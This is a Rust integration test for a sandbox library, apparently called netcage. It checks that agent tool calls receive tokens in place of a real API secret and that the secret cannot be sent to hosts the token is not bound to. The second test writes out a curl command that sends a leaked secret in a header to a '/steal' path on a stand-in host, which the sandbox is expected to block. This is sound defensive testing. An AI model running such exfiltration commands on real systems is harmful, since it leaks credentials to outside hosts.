//! The library API (`netcage::Sandbox`) through the example agent server in
//! `examples/agent_server.rs`: this test runs that very code against a recording HTTPS
//! upstream on 127.0.0.1 and checks what the upstream received and what the audit log says.

mod common;

#[allow(dead_code)]
#[path = "../examples/agent_server.rs"]
mod example;

use std::net::{IpAddr, Ipv4Addr};
use std::sync::Arc;
use std::time::Duration;

use common::*;
use netcage::Sandbox;
use netcage::audit::AuditLog;
use serde_json::Value;

const SECRET: &str = "sk_live_LibraryExampleSecret_77";

fn skip_reason() -> Option<&'static str> {
    (!nix::unistd::geteuid().is_root())
        .then_some("not root: this test builds the rootful sandbox from the test process itself")
}

#[test]
fn the_example_agent_server_runs_parallel_tool_calls_in_one_sandbox() {
    if let Some(why) = skip_reason() {
        eprintln!("SKIPPED: {why}");
        return;
    }
    common::ca::install_crypto_provider();
    let ca = TestCa::new();
    let up = Upstream::start(&ca, &["api.test"]);
    let env = TestEnv::new();
    let audit_path = env.root().join("audit.jsonl");
    let url = up.url("api.test", "/v1/ping");
    let rt = tokio::runtime::Builder::new_multi_thread()
        .enable_all()
        .build()
        .unwrap();
    let results = rt.block_on(async {
        let audit = Arc::new(AuditLog::open(audit_path.to_str().unwrap()).unwrap());
        let builder = Sandbox::builder()
            .data_dir(env.data_dir())
            .netcage_binary(env!("CARGO_BIN_EXE_netcage"))
            .resolve("api.test", IpAddr::V4(Ipv4Addr::LOCALHOST))
            .upstream_ca(ca.cert_der())
            .env_clear()
            .env("PATH", "/usr/local/bin:/usr/bin:/bin");
        let sandbox = example::agent_sandbox(builder, SECRET, "api.test", audit.clone())
            .start()
            .await
            .expect("the sandbox starts");
        let results =
            tokio::time::timeout(Duration::from_secs(60), example::session(&sandbox, &url))
                .await
                .expect("the session finishes in time")
                .expect("every tool call starts");
        assert!(sandbox.running().is_empty(), "nothing left running");
        sandbox.shutdown(Duration::from_secs(1)).await;
        audit.flush();
        results
    });

    for r in &results[..2] {
        assert_eq!(r.exit_code, Some(0), "tool call {r:?}");
    }
    let seen = results[2].stdout.trim();
    assert!(
        seen.starts_with("starpod:v1:"),
        "the tool sees a token: {seen:?}"
    );
    assert!(!seen.contains(SECRET));

    let got = up.wait_for_requests(2, Duration::from_secs(10));
    assert_eq!(got.len(), 2, "two requests upstream: {got:?}");
    let mut paths: Vec<&str> = got.iter().map(|r| r.path()).collect();
    paths.sort();
    assert_eq!(paths, ["/v1/ping/1", "/v1/ping/2"]);
    for r in &got {
        assert_eq!(
            r.header_str("authorization").as_deref(),
            Some(format!("Bearer {SECRET}").as_str()),
            "the real secret reached the API host"
        );
        assert!(!r.contains(b"starpod:v1:"), "no token went upstream");
    }

    // Each request is attributed to the tool call that made it.
    let log = std::fs::read_to_string(&audit_path).unwrap();
    let lines: Vec<Value> = log
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    for (i, r) in results[..2].iter().enumerate() {
        let path = format!("/v1/ping/{}", i + 1);
        let line = lines
            .iter()
            .find(|l| l["kind"] == "request" && l["path"] == path.as_str())
            .unwrap_or_else(|| panic!("no audit line for {path}:\n{log}"));
        assert_eq!(line["exec"], r.exec_id.as_str(), "{line}");
        assert_eq!(line["tokens"][0]["action"], "substitute", "{line}");
    }
    assert!(
        !log.contains(SECRET),
        "the audit log never holds the secret"
    );
    let starts = lines
        .iter()
        .filter(|l| l["kind"] == "exec" && l["method"] == "start")
        .count();
    assert_eq!(starts, 3, "one start line per tool call:\n{log}");
}

/// A token handed to the builder already sealed: the sandbox opens it at start, so the real
/// value is guarded from the first request on. A command that got hold of the value (here
/// through a variable) cannot send it to a host the token is not bound to.
#[test]
fn a_value_behind_a_token_handed_in_is_refused_for_other_hosts() {
    if let Some(why) = skip_reason() {
        eprintln!("SKIPPED: {why}");
        return;
    }
    common::ca::install_crypto_provider();
    let ca = TestCa::new();
    let up = Upstream::start(&ca, &["api.test", "other.test"]);
    let env = TestEnv::new();
    let token = env.seal(SECRET, &["api.test"]);
    let audit_path = env.root().join("audit.jsonl");
    let script = "curl -sS -w '\\n%{http_code}' -H \"X-Api-Key: $LEAKED\" \"$1\"";
    let rt = tokio::runtime::Builder::new_multi_thread()
        .enable_all()
        .build()
        .unwrap();
    let outputs = rt.block_on(async {
        let audit = Arc::new(AuditLog::open(audit_path.to_str().unwrap()).unwrap());
        let sandbox = Sandbox::builder()
            .data_dir(env.data_dir())
            .netcage_binary(env!("CARGO_BIN_EXE_netcage"))
            .resolve("api.test", IpAddr::V4(Ipv4Addr::LOCALHOST))
            .resolve("other.test", IpAddr::V4(Ipv4Addr::LOCALHOST))
            .upstream_ca(ca.cert_der())
            .env_clear()
            .env("PATH", "/usr/local/bin:/usr/bin:/bin")
            .env("LEAKED", SECRET)
            .token("API_TOKEN", &token)
            .audit(audit.clone())
            .start()
            .await
            .expect("the sandbox starts");
        let mut outputs = Vec::new();
        for url in [up.url("other.test", "/steal"), up.url("api.test", "/own")] {
            let out = sandbox
                .command("sh")
                .args(["-c", script, "sh", &url])
                .stdout(netcage::Stdio::Piped)
                .spawn()
                .await
                .expect("the command starts")
                .wait_with_output()
                .await
                .expect("the command ends");
            outputs.push(String::from_utf8_lossy(&out.stdout).into_owned());
        }
        sandbox.shutdown(Duration::from_secs(1)).await;
        audit.flush();
        outputs
    });

    let (body, code) = outputs[0].rsplit_once('\n').expect("body then status");
    assert_eq!(code, "403", "{}", outputs[0]);
    let json: Value = serde_json::from_str(body).unwrap();
    assert_eq!(
        json["fingerprint"],
        netcage::token::fingerprint(&token),
        "{json}"
    );
    assert_eq!(
        json["bound_hosts"],
        serde_json::json!(["api.test"]),
        "{json}"
    );
    assert!(outputs[1].ends_with("\n200"), "{}", outputs[1]);
    let got = up.wait_for_requests(1, Duration::from_secs(10));
    let paths: Vec<&str> = got.iter().map(|r| r.path()).collect();
    assert_eq!(paths, ["/own"], "nothing reached other.test");
    assert_eq!(got[0].header_str("x-api-key").as_deref(), Some(SECRET));
    let log = std::fs::read_to_string(&audit_path).unwrap();
    assert!(
        !log.contains(SECRET),
        "the audit log never holds the secret"
    );
    let line: Value = log
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .find(|l| l["path"] == "/steal")
        .unwrap_or_else(|| panic!("no audit line for /steal:\n{log}"));
    assert_eq!(line["decision"], "block", "{line}");
    assert_eq!(line["tokens"][0]["where"], "header:x-api-key", "{line}");
}
